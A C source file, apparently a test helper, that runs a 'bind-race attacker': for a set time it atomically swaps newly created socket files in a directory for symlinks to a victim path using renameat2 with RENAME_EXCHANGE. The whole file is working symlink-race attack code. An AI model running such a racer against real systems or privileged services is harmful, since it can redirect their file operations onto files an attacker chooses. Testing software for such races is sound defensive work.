/* The bind-race attacker: for SECONDS, swap each NAME in DIR for a symlink to VICTIM the
 * moment a socket appears there, with one atomic renameat2(RENAME_EXCHANGE) call (faster
 * than any Python loop, and faster than rename + symlink). After a swap it leaves that name
 * alone until the name is gone. Prints how many swaps it made.
 *
 *   racer VICTIM DIR SECONDS NAME...
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    if (argc < 5 || argc > 64) {
        fprintf(stderr, "usage: racer VICTIM DIR SECONDS NAME...\n");
        return 2;
    }
    if (chdir(argv[2]) != 0) {
        perror("chdir");
        return 1;
    }
    double end = now() + atof(argv[3]);
    char bait[64][64];
    int swapped[64] = {0};
    long swaps = 0, spins = 0;
    mkdir(".bait", 0755); /* the symlinks to swap in wait here, out of the test's way */
    for (int i = 4; i < argc; i++) {
        snprintf(bait[i], sizeof bait[i], ".bait/%d", i);
        unlink(bait[i]);
        if (symlink(argv[1], bait[i]) != 0) {
            perror("symlink");
            return 1;
        }
    }
    while (1) {
        for (int i = 4; i < argc; i++) {
            struct stat st;
            if (swapped[i]) {
                if (lstat(argv[i], &st) != 0) { /* cleaned up: arm again with a new bait */
                    unlink(bait[i]);
                    swapped[i] = symlink(argv[1], bait[i]) != 0;
                }
                continue;
            }
            if (renameat2(AT_FDCWD, argv[i], AT_FDCWD, bait[i], RENAME_EXCHANGE) == 0) {
                swapped[i] = 1;
                swaps++;
            }
        }
        if ((++spins & 1023) == 0) {
            if (now() > end)
                break;
            for (int i = 4; i < argc; i++) {
                struct stat st;
                if (!swapped[i] && lstat(bait[i], &st) != 0 && symlink(argv[1], bait[i]) != 0)
                    perror("symlink");
            }
        }
    }
    printf("%ld\n", swaps);
    return 0;
}
